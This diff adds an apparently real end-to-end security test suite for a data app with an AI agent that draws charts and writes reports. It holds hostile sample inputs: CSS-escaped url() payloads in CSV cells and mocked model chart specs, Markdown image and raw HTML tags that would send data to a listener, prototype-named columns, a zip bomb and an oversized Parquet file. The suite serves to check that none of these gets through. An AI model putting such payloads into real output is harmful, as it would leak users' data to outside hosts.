@@ -1,0 +1,260 @@
+/**
+ * Issue 27: nothing a cell or the model writes can paint a URL, in the page or in any file the
+ * person saves, and files with hostile names or keys load. Run twice: on the build served with no
+ * headers at all (the renderers and files must hold alone) and with its CSP. A loopback listener
+ * records every request; it must stay empty.
+ *
+ * The paints: a CSV cell spelling `url(` with CSS escapes reaches a bar's `fill` through an
+ * expression over the query's rows (`fill: {expr: "datum.paint"}`, which no spec check can see),
+ * and the model tries an identity colour scale, an escaped `url(` in a mark and in the background.
+ * In Chromium each of these forms is fetched from a fill (tests/unit/svg-attributes.test.ts).
+ */
+import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { downloaded, loadErrors, loadFiles, runSql, summaries } from './app.ts';
+import { ask, configure, mock } from './agent.ts';
+import { openApp, useBrowser } from './browser.ts';
+import { declaringGroupBytes, zipDeclaring } from '../engine-suite/crafted.ts';
+import { inertProblems } from './injection-helpers.ts';
+import { startListener, type Listener } from './listener.ts';
+
+const browser = useBrowser();
+let listener: Listener;
+let origin = '';
+const saved = mkdtempSync(join(tmpdir(), 'sift-saved-'));
+
+beforeAll(async () => {
+  listener = await startListener();
+  origin = listener.origin;
+});
+
+afterAll(async () => {
+  await listener?.close();
+});
+
+beforeEach(async () => {
+  listener.requests.length = 0;
+  await mock().reset();
+});
+
+/** The hostile CSV: a region, an amount, and a paint that is `url(…)` to CSS. */
+const paintCsv = () =>
+  [
+    'region,amount,paint',
+    `East,2,"\\75 rl(${origin}/cell-hex)"`,
+    `North,3,"u\\rl(${origin}/cell-letter)"`,
+    `South,5,"\\000055RL(${origin}/cell-six)"`,
+    `West,4,"url(${origin}/cell-plain)"`,
+  ].join('\n');
+
+/** A file name a `String.replace` would read as patterns. */
+const FILE_NAME = "paint$'$&.csv";
+
+const bars = (extra: Record<string, unknown>) => ({
+  encoding: {
+    x: { field: 'region', type: 'nominal' },
+    y: { field: 'amount', type: 'quantitative' },
+  },
+  ...extra,
+});
+
+/** The model's turn: the query, one chart it may draw and three it may not. */
+function paintTurn() {
+  const plot = (title: string, spec: Record<string, unknown>, queryId = true) => ({
+    name: 'create_plot',
+    input: { title, vega_lite_spec: spec, ...(queryId ? { query_id: 'Q1' } : {}) },
+  });
+  return [
+    {
+      name: 'sql_query',
+      input: { query: 'SELECT region, amount, paint FROM data ORDER BY region', description: 'p' },
+    },
+    plot('Painted from the data', bars({ mark: { type: 'bar', fill: { expr: 'datum.paint' } } })),
+    plot(
+      'Identity colours',
+      bars({
+        mark: 'bar',
+        encoding: {
+          ...bars({}).encoding,
+          color: { field: 'paint', type: 'nominal', scale: { type: 'identity' } },
+        },
+      }),
+    ),
+    plot(
+      'Escaped fill',
+      bars({
+        data: { values: [{ region: 'a', amount: 1 }] },
+        mark: { type: 'bar', fill: `u\\rl(${origin}/model-fill)` },
+      }),
+      false,
+    ),
+    plot('Escaped background', bars({ mark: 'bar', background: `\\75 rl(${origin}/model-bg)` })),
+    { name: 'finalize', input: { session_title: null } },
+  ];
+}
+
+/** Every attribute of the page's charts that still spells a URL or holds a backslash. */
+function chartAttributes(page: Page): Promise<string[]> {
+  return page.$$eval('[data-testid="plot"] svg, [data-testid="plot"] svg *', (els) =>
+    els.flatMap((el) =>
+      [...el.attributes]
+        .filter((a) => /\\|rl\(\s*['"]?http/i.test(a.value))
+        .map((a) => `${el.localName} ${a.name}=${a.value}`),
+    ),
+  );
+}
+
+/** `bytes` saved to disk and opened from there in a fresh browser context: what it requests. */
+async function openedFromDisk(name: string, bytes: Buffer): Promise<string[]> {
+  const path = join(saved, name);
+  writeFileSync(path, bytes);
+  const context = await browser().newContext();
+  const requests: string[] = [];
+  context.on('request', (r) => requests.push(r.url()));
+  const viewer = await context.newPage();
+  await viewer.goto(pathToFileURL(path).href, { waitUntil: 'load' });
+  await viewer.waitForTimeout(300);
+  await context.close();
+  return requests.filter((url) => !url.startsWith('file:'));
+}
+
+describe.each([
+  ['served with no CSP', true],
+  ['served with its CSP', false],
+])('%s', (_served, bare) => {
+  it('a cell or the model painting a URL: nothing fetched in the page, the SVG, the report or its Markdown', async () => {
+    const { page, errors } = await openApp(browser(), { bare });
+    await configure(page);
+    await loadFiles(page, [
+      { name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(paintCsv()) },
+    ]);
+    await mock().script([{ reply: { tools: paintTurn() } }]);
+    expect(await ask(page, 'Chart the amounts in their own colours.')).toBe('done');
+
+    const turn = page.locator('.turn').last();
+    const plot = turn.locator('[data-testid="plot"][data-rendered="true"]');
+    await plot.locator('svg').waitFor();
+    expect(await turn.locator('[data-testid="plot"]').count()).toBe(1);
+    const trail = (await turn.locator('[data-testid="activity"]').textContent()) ?? '';
+    expect(trail).toMatch(/Chart rejected: encoding\.color\.scale is an identity scale/);
+    expect(trail).toMatch(/Chart rejected: mark\.fill contains a URL/);
+    expect(trail).toMatch(/Chart rejected: background contains a URL/);
+    // The four bars are drawn; the cells' paints never stay on them.
+    expect(await plot.locator('path[role="graphics-symbol"]').count()).toBe(4);
+    for (const bar of await plot.locator('path[role="graphics-symbol"]').all())
+      await bar.hover({ force: true });
+    expect(await chartAttributes(page)).toEqual([]);
+
+    // The chart saved as SVG and opened from disk, where no CSP of ours applies.
+    const svg = await downloaded(page, plot.locator('[data-testid="plot-svg"]'));
+    expect(svg.toString()).toMatch(/^<svg/);
+    expect(svg.toString()).not.toMatch(/rl\(\s*['"]?http|\\/i);
+    expect(await openedFromDisk('chart.svg', svg)).toEqual([]);
+
+    // The report: the chart, and text that tries an image and raw HTML.
+    await mock().reset();
+    const text = [
+      '# Paint',
+      'East is lowest [Q1].',
+      '[[C1]]',
+      `![leak](${origin}/md-image?d=East) <img src="${origin}/md-raw">`,
+      '```',
+    ].join('\n\n');
+    await mock().script([{ reply: { text } }]);
+    await page.click('[data-testid="generate-report"]');
+    await page.waitForSelector('[data-testid="report"][data-state="done"]', { timeout: 60_000 });
+
+    const html = await downloaded(page, page.locator('[data-testid="export-report-html"]'));
+    const markup = html.toString();
+    expect(markup).not.toMatch(/rl\(\s*['"]?http|\\75|u\\rl/i);
+    expect(markup).toContain("base-uri 'none'; form-action 'none'");
+    // The file name is shown as it is, and the report is not garbled around it.
+    expect(markup).toContain(
+      `Data: ${FILE_NAME.replace('&', '&amp;')} (table data: 4 rows × 3 columns) · Made with Sift`,
+    );
+    expect(markup.match(/<h1>/g)).toHaveLength(1);
+    expect(await openedFromDisk('report.html', html)).toEqual([]);
+
+    const md = (
+      await downloaded(page, page.locator('[data-testid="export-report-md"]'))
+    ).toString();
+    expect(md).toContain(`\\[image: leak\\] (${origin}/md-image?d=East)`);
+    expect(md).toContain(`&lt;img src="${origin}/md-raw">`);
+    expect(md).not.toMatch(/!\[|<img/);
+    // The text's unclosed fence is text, so the fences after it are the report's own, in pairs.
+    expect(md).toContain('\\`\\`\\`');
+    const fences = md.match(/^```.*$/gm) ?? [];
+    expect(fences.filter((f) => f === '```')).toHaveLength(fences.length / 2);
+    expect(md).toContain(`_Data: ${FILE_NAME} (table data: 4 rows × 3 columns)`);
+
+    await page.waitForTimeout(300);
+    expect(listener.requests).toEqual([]);
+    expect(await inertProblems(page, origin)).toEqual([]);
+    expect(errors).toEqual([]);
+  });
+
+  it('columns named __proto__ or constructor load from JSON, JSON Lines and a sheet', async () => {
+    const { page, errors } = await openApp(browser(), { bare });
+    // Written as text: in an object literal `__proto__` would set the prototype, not a key.
+    const lines = ['{"id":1,"__proto__":"a","constructor":"x"}', '{"id":2,"__proto__":"b"}'];
+    await loadFiles(page, [
+      { name: 'doc.json', mimeType: 'application/json', buffer: Buffer.from(`[${lines}]`) },
+      {
+        name: 'lines.jsonl',
+        mimeType: 'application/x-ndjson',
+        buffer: Buffer.from(lines.join('\n')),
+      },
+      {
+        name: 'sheet.xlsx',
+        mimeType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+        buffer: readFileSync('tests/fixtures/xlsx/proto.xlsx'),
+      },
+    ]);
+    expect(await loadErrors(page)).toEqual([]);
+    expect((await summaries(page)).map((s) => [s.table, s.rows, s.cols])).toEqual([
+      ['doc', 2, 3],
+      ['lines', 2, 3],
+      ['sheet', 2, 4],
+    ]);
+    const read = await runSql(
+      page,
+      'SELECT d."__proto__", d."constructor", l."__proto__", s."__proto__", s."toString" FROM doc d JOIN lines l USING (id) JOIN sheet s USING (id) ORDER BY id',
+    );
+    expect(read.ok && read.cells).toEqual([
+      ['a', 'x', 'a', 'p1', 't1'],
+      ['b', null, 'b', 'p2', 't2'],
+    ]);
+    expect(listener.requests).toEqual([]);
+    expect(errors).toEqual([]);
+  });
+
+  it('a zip bomb and a Parquet row group past memory are refused with their reasons, the table kept', async () => {
+    const { page, errors } = await openApp(browser(), { bare });
+    const csv = Buffer.from('id,name\n1,Ana\n2,Bo\n');
+    await loadFiles(page, [{ name: 'people.csv', mimeType: 'text/csv', buffer: csv }]);
+    const bomb = zipDeclaring([
+      { name: '[Content_Types].xml', packed: 40, declared: 200 },
+      { name: 'xl/worksheets/sheet1.xml', packed: 100, declared: 3 * 2 ** 30 },
+    ]);
+    const tz = readFileSync('tests/fixtures/duckdb-parquet/tz.parquet');
+    const huge = declaringGroupBytes(new Uint8Array(tz), 92, 2, 2 * 2 ** 30);
+    const binary = 'application/octet-stream';
+    await loadFiles(page, [
+      { name: 'bomb.xlsx', mimeType: binary, buffer: Buffer.from(bomb) },
+      { name: 'huge.parquet', mimeType: binary, buffer: Buffer.from(huge) },
+    ]);
+    const refused = await loadErrors(page);
+    expect(refused.map((e) => e.file)).toEqual(['bomb.xlsx', 'huge.parquet']);
+    expect(refused[0]!.text).toMatch(/claims to unpack from 100 bytes to 3,072 MB/);
+    expect(refused[1]!.text).toMatch(/row group is 2,048 MB once unpacked/);
+    expect((await summaries(page)).map((s) => [s.table, s.rows])).toEqual([['data', 2]]);
+    const read = await runSql(page, 'SELECT name FROM data ORDER BY id');
+    expect(read.ok && read.cells).toEqual([['Ana'], ['Bo']]);
+    expect(listener.requests).toEqual([]);
+    expect(errors).toEqual([]);
+  });
+});
